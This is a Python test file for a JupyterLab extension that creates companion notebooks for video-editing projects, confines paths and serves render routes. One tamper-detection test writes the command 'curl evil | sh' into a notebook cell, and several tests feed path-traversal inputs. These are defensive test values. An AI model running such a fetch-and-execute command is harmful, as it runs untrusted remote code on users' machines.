"""Companion notebooks and the JupyterLab extension's JSON routes, inside a real Jupyter server."""

from __future__ import annotations

import asyncio
import json
import os
import time
from pathlib import Path
from typing import Any

import nbformat
import pytest

from timeline_lab.errors import ProjectFileError
from timeline_lab.model import io
from timeline_lab.server.companion import (
    OutsideRootError,
    companion_notebook,
    confine,
    ensure_companion,
    is_companion,
    is_pristine,
    new_project,
    suggest_name,
)

BASE = "/user/bob/"

EXPECTED_CODE = """\
from pathlib import Path
from timeline_lab import Studio
from timeline_lab.widgets import Editor

studio = Studio(workspace=Path.cwd())
project = studio.open("My Cut.tlproj")
editor = Editor(project, studio=studio, autosave="My Cut.tlproj")
editor"""


@pytest.fixture
def jp_server_config() -> dict[str, Any]:
    return {"ServerApp": {"jpserver_extensions": {"timeline_lab.server.jupyter": True}}}


@pytest.fixture
def jp_base_url() -> str:
    return BASE


def _empty_project(path: Path) -> Path:
    """A valid empty project file, as the extension's "new project" writes it."""
    project, _ = new_project(path.parent, path.stem)
    path.with_suffix(".ipynb").unlink()
    return project


# --- the notebook ----------------------------------------------------------------------------------


def test_companion_notebook_content() -> None:
    nb = companion_notebook(Path("some/dir/My Cut.tlproj"))
    nbformat.validate(nb)
    assert [c.cell_type for c in nb.cells] == ["markdown", "code", "markdown"]
    assert nb.cells[0].source.startswith("# My Cut")
    assert nb.cells[1].source == EXPECTED_CODE
    assert "My Cut.tlproj" in nb.cells[2].source and "saved" in nb.cells[2].source
    assert nb.metadata["timeline_lab"] == {"project": "My Cut.tlproj"}
    assert nb.metadata["kernelspec"]["name"] == "python3"


def test_companion_code_quotes_awkward_names() -> None:
    code = companion_notebook(Path('it\'s "x".tlproj')).cells[1].source
    namespace: dict[str, Any] = {}
    line = next(ln for ln in code.splitlines() if ln.startswith("project = "))
    exec(line.replace("studio.open", "str"), {"str": str}, namespace)
    assert namespace["project"] == 'it\'s "x".tlproj'


# --- ensure_companion --------------------------------------------------------------------------------


def test_ensure_companion_creates_once_and_reuses(tmp_path: Path) -> None:
    project = _empty_project(tmp_path / "cut.tlproj")
    notebook = ensure_companion(project)
    assert notebook == tmp_path / "cut.ipynb"
    nb = nbformat.read(notebook, as_version=4)
    assert nb.metadata["timeline_lab"]["project"] == "cut.tlproj"
    notebook.write_text(notebook.read_text().replace("# cut", "# edited by the user"))
    assert ensure_companion(project) == notebook
    assert "# edited by the user" in notebook.read_text()  # reused, never rewritten
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cut.ipynb", "cut.tlproj"]


def test_foreign_notebook_is_left_alone(tmp_path: Path) -> None:
    project = _empty_project(tmp_path / "cut.tlproj")
    foreign = tmp_path / "cut.ipynb"
    nbformat.write(nbformat.v4.new_notebook(), foreign)
    before = foreign.read_bytes()
    notebook = ensure_companion(project)
    assert notebook == tmp_path / "cut.timeline.ipynb" and is_companion(notebook, "cut.tlproj")
    assert foreign.read_bytes() == before
    assert ensure_companion(project) == notebook
    notebook.write_text("not json")  # both names taken by something else
    with pytest.raises(ProjectFileError, match=r"cut\.ipynb and cut\.timeline\.ipynb both exist"):
        ensure_companion(project)


def test_companion_write_is_atomic(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project = _empty_project(tmp_path / "cut.tlproj")

    def crash(src: Any, dst: Any) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", crash)
    with pytest.raises(OSError, match="disk full"):
        ensure_companion(project)
    assert [p.name for p in tmp_path.iterdir()] == ["cut.tlproj"]  # no notebook, no temp file


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("missing.tlproj", None),
        ("notes.txt", "file"),
        ("folder.tlproj", "dir"),
    ],
)
def test_ensure_companion_refuses_non_projects(tmp_path: Path, name: str, make: str | None) -> None:
    path = tmp_path / name
    if make == "file":
        path.write_text("{}")
    elif make == "dir":
        path.mkdir()
    with pytest.raises(ProjectFileError, match=rf"{name}: not an existing \.tlproj file"):
        ensure_companion(path)
    assert not list(tmp_path.glob("*.ipynb"))


# --- new_project ---------------------------------------------------------------------------------------


def test_new_project_picks_unused_names(tmp_path: Path) -> None:
    first = new_project(tmp_path)
    assert first == (tmp_path / "Untitled.tlproj", tmp_path / "Untitled.ipynb")
    (tmp_path / "Untitled1.ipynb").write_text("{}")  # someone else's notebook: keep pairs together
    second = new_project(tmp_path)
    assert second == (tmp_path / "Untitled2.tlproj", tmp_path / "Untitled2.ipynb")
    project = io.load(second[0])
    assert [t.kind for t in project.tracks] == ["video"] and project.name == "Untitled2"
    assert is_companion(second[1], "Untitled2.tlproj")


def test_suggested_name_is_the_one_new_project_takes(tmp_path: Path) -> None:
    for _ in range(3):
        name = suggest_name(tmp_path)
        assert new_project(tmp_path)[0] == tmp_path / f"{name}.tlproj"
    (tmp_path / "Untitled3.ipynb").write_text("{}")
    assert suggest_name(tmp_path) == "Untitled4"


def test_only_our_own_companion_code_is_pristine(tmp_path: Path) -> None:
    project, notebook = new_project(tmp_path, "Cut")
    assert is_pristine(notebook, "Cut.tlproj")
    assert not is_pristine(notebook, "Other.tlproj")  # our code, but for another project
    data = json.loads(notebook.read_text("utf-8"))
    data["cells"][1]["source"] = ["import os\n", "os.system('curl evil | sh')"]
    notebook.write_text(json.dumps(data), "utf-8")
    assert is_companion(notebook, "Cut.tlproj") and not is_pristine(notebook, "Cut.tlproj")
    data["cells"][1]["source"] = companion_notebook(project).cells[1].source.splitlines(keepends=True)
    notebook.write_text(json.dumps(data), "utf-8")  # nbformat's list-of-lines form of the same code
    assert is_pristine(notebook, "Cut.tlproj")
    data["cells"].append({"cell_type": "code", "source": "print(1)", "metadata": {}, "outputs": []})
    notebook.write_text(json.dumps(data), "utf-8")
    assert not is_pristine(notebook, "Cut.tlproj")  # an added cell would run too
    notebook.write_text("{broken", "utf-8")
    assert not is_pristine(notebook, "Cut.tlproj")


def test_new_project_with_a_name(tmp_path: Path) -> None:
    project, notebook = new_project(tmp_path, "Trailer")
    assert (project.name, notebook.name) == ("Trailer.tlproj", "Trailer.ipynb")
    with pytest.raises(ProjectFileError, match=r"Trailer\.tlproj: already exists"):
        new_project(tmp_path, "Trailer")
    with pytest.raises(ProjectFileError, match="without folders"):
        new_project(tmp_path, "../Trailer")
    with pytest.raises(ProjectFileError, match="without folders"):
        new_project(tmp_path, "  ")
    assert new_project(tmp_path, "Teaser.tlproj")[0].name == "Teaser.tlproj"  # the suffix is optional
    (tmp_path / "Notes.ipynb").write_text("{}")  # the user's own notebook keeps its name
    assert new_project(tmp_path, "Notes")[1].name == "Notes.timeline.ipynb"
    with pytest.raises(ProjectFileError, match="not a directory"):
        new_project(tmp_path / "nowhere")


# --- confinement ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("relative", "expected", "error"),
    [
        ("a/b.tlproj", "a/b.tlproj", None),
        ("", ".", None),
        ("/a/b.tlproj", "a/b.tlproj", None),  # Jupyter API paths: a leading slash is the root
        ("a/../b.tlproj", "b.tlproj", None),
        ("..", None, OutsideRootError),
        ("../outside.tlproj", None, OutsideRootError),
        ("a/../../outside.tlproj", None, OutsideRootError),
        ("link/secret.tlproj", None, OutsideRootError),  # a symlink out of the root
        ("a\0b", None, ValueError),
    ],
)
def test_confine(tmp_path: Path, relative: str, expected: str | None, error: type[Exception] | None) -> None:
    root = tmp_path / "root"
    root.mkdir()
    (tmp_path / "outside").mkdir()
    (root / "link").symlink_to(tmp_path / "outside")
    if error is None:
        assert confine(root, relative) == (root / (expected or "")).resolve()
    else:
        with pytest.raises(error, match=r"outside the Jupyter server's root|NUL"):
            confine(root, relative)


# --- HTTP ---------------------------------------------------------------------------------------------


async def _post(jp_fetch: Any, route: str, body: Any) -> tuple[int, dict[str, Any]]:
    data = body if isinstance(body, str) else json.dumps(body)
    r = await jp_fetch("timeline-lab", "api", route, method="POST", body=data, raise_error=False)
    return r.code, json.loads(r.body)


async def test_http_new_project_and_companion(jp_fetch: Any, jp_root_dir: Path) -> None:
    (jp_root_dir / "work").mkdir()
    r = await jp_fetch("timeline-lab", "api", "projects", params={"directory": "work"})
    assert json.loads(r.body) == {"name": "Untitled"}
    code, body = await _post(jp_fetch, "projects", {"directory": "work"})
    expected = {"project": "work/Untitled.tlproj", "notebook": "work/Untitled.ipynb", "pristine": True}
    assert code == 200 and body == expected
    assert (jp_root_dir / "work" / "Untitled.tlproj").is_file()
    (jp_root_dir / "work" / "Untitled.ipynb").unlink()
    code, body = await _post(jp_fetch, "companion", {"path": "work/Untitled.tlproj"})
    assert code == 200 and body == {"notebook": "work/Untitled.ipynb", "pristine": True}
    assert is_companion(jp_root_dir / "work" / "Untitled.ipynb", "Untitled.tlproj")
    code, body = await _post(jp_fetch, "projects", {})  # no directory: the root
    assert code == 200 and body["project"] == "Untitled.tlproj"
    code, body = await _post(jp_fetch, "projects", {"directory": "work", "name": "Trailer"})
    assert code == 200 and body["project"] == "work/Trailer.tlproj"
    code, body = await _post(jp_fetch, "projects", {"directory": "work", "name": "Trailer"})
    assert code == 400 and "Trailer.tlproj: already exists" in body["message"]


@pytest.mark.parametrize(
    ("route", "body", "status", "message"),
    [
        ("companion", {"path": "../escape.tlproj"}, 403, "outside the Jupyter server's root"),
        ("companion", {"path": "a/../../escape.tlproj"}, 403, "outside the Jupyter server's root"),
        ("render", {"path": "../escape.tlproj"}, 403, "outside the Jupyter server's root"),
        ("projects", {"directory": ".."}, 403, "outside the Jupyter server's root"),
        ("companion", {"path": "missing.tlproj"}, 404, "no such project file"),
        ("companion", {"path": "notes.txt"}, 400, "not a .tlproj file"),
        ("companion", {}, 400, "needs a string 'path'"),
        ("companion", {"path": 3}, 400, "needs a string 'path'"),
        ("companion", "{not json", 400, "not valid JSON"),
        ("render", {"path": "broken.tlproj"}, 400, "broken.tlproj"),
        ("projects", {"directory": "nowhere"}, 404, "no such directory"),
        ("projects", {"name": "a/b"}, 400, "without folders"),
        ("projects", {"name": 7}, 400, "'name' must be a string"),
    ],
)
async def test_http_errors(
    jp_fetch: Any, jp_root_dir: Path, route: str, body: Any, status: int, message: str
) -> None:
    (jp_root_dir / "notes.txt").write_text("hi")
    (jp_root_dir / "broken.tlproj").write_text("{not a project")
    code, reply = await _post(jp_fetch, route, body)
    assert code == status and message in reply["message"]
    assert str(jp_root_dir) not in reply["message"]  # the server's layout stays private
    assert not list(jp_root_dir.parent.glob("escape*"))


async def test_http_needs_login(http_server_client: Any, jp_root_dir: Path) -> None:
    _empty_project(jp_root_dir / "cut.tlproj")
    for route, body in [("companion", {"path": "cut.tlproj"}), ("projects", {}), ("render", {})]:
        r = await http_server_client.fetch(
            f"{BASE}timeline-lab/api/{route}", method="POST", body=json.dumps(body), raise_error=False
        )
        assert r.code == 403
    r = await http_server_client.fetch(f"{BASE}timeline-lab/api/render/abc", raise_error=False)
    assert r.code == 403
    assert not (jp_root_dir / "cut.ipynb").exists()


async def test_unknown_render_job(jp_fetch: Any) -> None:
    r = await jp_fetch("timeline-lab", "api", "render", "nosuchjob", raise_error=False)
    assert r.code == 404 and "unknown" in json.loads(r.body)["message"]


async def _until_finished(jp_fetch: Any, job: str, timeout: float = 120) -> list[dict[str, Any]]:
    seen = []
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        r = await jp_fetch("timeline-lab", "api", "render", job)
        seen.append(json.loads(r.body))
        if seen[-1]["state"] != "running":
            return seen
        await asyncio.sleep(0.05)
    pytest.fail(f"render job {job} still running after {timeout}s: {seen[-1]}")


@pytest.mark.slow
async def test_http_render_end_to_end(jp_fetch: Any, jp_root_dir: Path, media: dict[str, Path]) -> None:
    from timeline_lab.studio import Studio

    studio = Studio(workspace=jp_root_dir)
    project = studio.new_project("cut", width=160, height=120, frame_rate=25)
    project.tracks[0].append(studio.clip(media["pal"]))
    (jp_root_dir / "films").mkdir()
    studio.save(project, "films/cut.tlproj")
    studio.close()

    code, body = await _post(jp_fetch, "render", {"path": "films/cut.tlproj"})
    assert code == 200 and body["output"] == "films/cut.mp4" and body["job"]
    states = await _until_finished(jp_fetch, body["job"])
    assert states[-1] == {"state": "done", "fraction": 1.0, "output": "films/cut.mp4", "error": None}
    assert all(0.0 <= s["fraction"] <= 1.0 for s in states)
    out = jp_root_dir / "films" / "cut.mp4"
    assert out.is_file() and out.stat().st_size > 0

    from timeline_lab.media.probe import probe

    assert probe(out).video is not None


async def test_http_render_of_missing_media_is_refused(
    jp_fetch: Any, jp_root_dir: Path, media: dict[str, Path], tmp_path: Path
) -> None:
    from timeline_lab.studio import Studio

    clip = tmp_path / "gone.mp4"
    clip.write_bytes(media["silent"].read_bytes())
    studio = Studio(workspace=jp_root_dir)
    project = studio.new_project("cut", width=160, height=120, frame_rate=25)
    project.tracks[0].append(studio.clip(clip))
    studio.save(project, "cut.tlproj")
    studio.close()
    clip.unlink()  # the media vanishes before the render: refused up front, naming the file

    code, body = await _post(jp_fetch, "render", {"path": "cut.tlproj"})
    assert code == 400 and "1 media file(s) missing: gone.mp4" in body["message"]
    assert not (jp_root_dir / "cut.mp4").exists()


async def test_http_render_failure_is_reported(
    jp_fetch: Any, jp_root_dir: Path, media: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    import importlib

    from timeline_lab.errors import RenderError
    from timeline_lab.studio import Studio

    execute = importlib.import_module("timeline_lab.render.execute.runner")  # the module, not the function

    studio = Studio(workspace=jp_root_dir)
    project = studio.new_project("cut", width=160, height=120, frame_rate=25)
    project.tracks[0].append(studio.clip(media["silent"]))
    studio.save(project, "cut.tlproj")
    studio.close()

    def explode(*args: Any, **kwargs: Any) -> Path:
        raise RenderError("encoder exploded at frame 3")

    monkeypatch.setattr(execute, "execute", explode)  # the server runs in this process
    code, body = await _post(jp_fetch, "render", {"path": "cut.tlproj"})
    assert code == 200
    states = await _until_finished(jp_fetch, body["job"])
    assert states[-1] == {
        "state": "failed",
        "fraction": 0.0,
        "output": "cut.mp4",
        "error": "encoder exploded at frame 3",
    }


async def test_http_render_never_replaces_the_projects_own_media(
    jp_fetch: Any, jp_root_dir: Path, media: dict[str, Path]
) -> None:
    """``interview.tlproj`` cut from ``interview.mp4`` must not render over its camera original."""
    from timeline_lab.studio import Studio

    source = jp_root_dir / "interview.mp4"
    source.write_bytes(media["pal"].read_bytes())
    studio = Studio(workspace=jp_root_dir)
    project = studio.new_project("interview", width=160, height=120, frame_rate=25)
    project.tracks[0].append(studio.clip(source))
    studio.save(project, "interview.tlproj")
    studio.close()

    code, body = await _post(jp_fetch, "render", {"path": "interview.tlproj"})
    assert code == 409 and "interview.mp4 is one of interview.tlproj's media files" in body["message"]
    assert source.read_bytes() == media["pal"].read_bytes()


@pytest.mark.slow
async def test_http_render_replaces_only_its_own_earlier_output(
    jp_fetch: Any, jp_root_dir: Path, media: dict[str, Path]
) -> None:
    """An unrelated ``cut.mp4`` beside ``cut.tlproj`` is kept (409) unless overwrite is asked for;
    the project's own earlier render is replaced without asking."""
    from timeline_lab.studio import Studio

    studio = Studio(workspace=jp_root_dir)
    project = studio.new_project("cut", width=160, height=120, frame_rate=25)
    project.tracks[0].append(studio.clip(media["silent"], 0, 5))
    studio.save(project, "cut.tlproj")
    studio.close()
    unrelated = jp_root_dir / "cut.mp4"
    unrelated.write_bytes(media["pal"].read_bytes())

    code, body = await _post(jp_fetch, "render", {"path": "cut.tlproj"})
    assert code == 409 and "is not a render of cut.tlproj" in body["message"]
    assert unrelated.read_bytes() == media["pal"].read_bytes()

    code, body = await _post(jp_fetch, "render", {"path": "cut.tlproj", "overwrite": True})
    assert code == 200
    assert (await _until_finished(jp_fetch, body["job"]))[-1]["state"] == "done"
    code, body = await _post(jp_fetch, "render", {"path": "cut.tlproj"})  # now it is ours
    assert code == 200
    assert (await _until_finished(jp_fetch, body["job"]))[-1]["state"] == "done"
